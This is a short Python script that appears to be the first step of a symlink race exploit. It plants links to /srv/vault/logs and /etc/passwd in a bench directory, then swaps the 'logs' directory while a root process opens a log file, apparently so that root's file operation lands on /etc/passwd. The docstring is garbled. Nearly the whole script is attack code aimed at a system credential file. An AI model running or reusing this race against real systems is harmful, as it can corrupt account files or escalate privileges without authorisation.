"""First step: logs and a link to a folder of root's change places while root opens the log."""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from race import BENCH, race, swap

os.symlink("/srv/vault/logs", f"{BENCH}/.one")
os.symlink("/etc/passwd", f"{BENCH}/logs/.two")
race("logs", swap("logs", ".one", "logs/prodgen-migrate.log", "logs/.two"))
